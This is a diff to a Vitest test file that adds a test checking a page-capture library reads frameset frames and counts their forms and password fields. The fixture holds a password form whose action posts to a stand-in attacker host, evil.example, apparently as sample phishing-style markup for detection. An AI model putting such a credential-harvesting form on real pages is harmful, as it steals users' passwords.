@@ -1,6 +1,6 @@
 // @vitest-environment happy-dom
 // @vitest-environment-options { "url": "https://shop.example/", "settings": { "enableIframePageLoading": true } }
-import { expect, test } from 'vitest'
+import { expect, test, vi } from 'vitest'
 import { newLedger } from '#lib/capture/in-page/budget.ts'
 import { collectElements } from '#lib/capture/in-page/collect-elements.ts'
 import { readHtml, readNow } from './read-html.ts'
@@ -30,6 +30,27 @@ test('what describes a frame does not describe the page', () => {
   expect(page.title).toBe('Page')
   expect(page.description).toBeUndefined()
   expect(text.visible).toBe('frame words')
+})
+
+test('the frames of a frameset are read as other frames are', () => {
+  const inner = document.implementation.createHTMLDocument('Frame')
+  inner.body.innerHTML =
+    '<h2>frame words</h2><form action="https://evil.example/"><input type="password"></form>'
+  // happy-dom has no such element; a browser's own property answers for no other.
+  vi.stubGlobal(
+    'HTMLFrameElement',
+    class {
+      get contentDocument() {
+        return inner
+      }
+    },
+  )
+  readHtml('<title>Page</title>')
+  document.documentElement.append(document.createElement('frame'))
+  const { page, text } = readNow()
+  expect(page.counts).toMatchObject({ frames: 1, forms: 1, passwords: 1 })
+  expect(text.headings).toEqual([{ level: 2, text: 'frame words' }])
+  vi.unstubAllGlobals()
 })
 
 test('a page without end stops at the time and still shows its forms', () => {
